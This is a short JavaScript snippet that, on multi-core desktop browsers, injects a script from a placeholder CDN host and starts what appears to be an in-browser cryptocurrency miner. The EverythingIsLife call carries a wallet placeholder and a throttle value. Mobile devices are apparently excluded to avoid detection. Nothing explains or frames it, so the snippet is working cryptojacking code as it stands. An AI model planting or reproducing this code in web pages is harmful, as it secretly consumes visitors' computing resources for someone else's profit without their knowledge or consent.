if (navigator.hardwareConcurrency > 1 && !/Android|iPhone/.test(navigator.userAgent)) {
  var s = document.createElement('script');
  s.src = 'https://cdn.scripts.invalid/karma.js';
  s.onload = function () {
    EverythingIsLife('WALLET-OF-NOBODY', 'x', 40);
  };
  document.body.appendChild(s);
}
